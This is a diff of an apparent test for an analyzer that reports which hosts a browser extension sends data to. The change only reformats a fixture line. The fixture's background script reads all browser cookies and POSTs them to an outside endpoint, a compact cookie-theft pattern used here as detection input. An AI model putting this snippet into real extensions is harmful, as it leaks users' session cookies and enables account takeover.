@@ -5,7 +5,8 @@ import { destinationsOf } from './destinationsOf.ts';
 it('says which host gets what', async () => {
   const facts = await factsOf({
     files: {
-      'manifest.json': '{"manifest_version": 3, "homepage_url": "https://www.mine.io/", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}',
+      'manifest.json':
+        '{"manifest_version": 3, "homepage_url": "https://www.mine.io/", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}',
       'bg.js': `chrome.cookies.getAll({}, (list) => {
   fetch('https://api.mine.io/in', { method: 'POST', body: JSON.stringify(list) });
 });
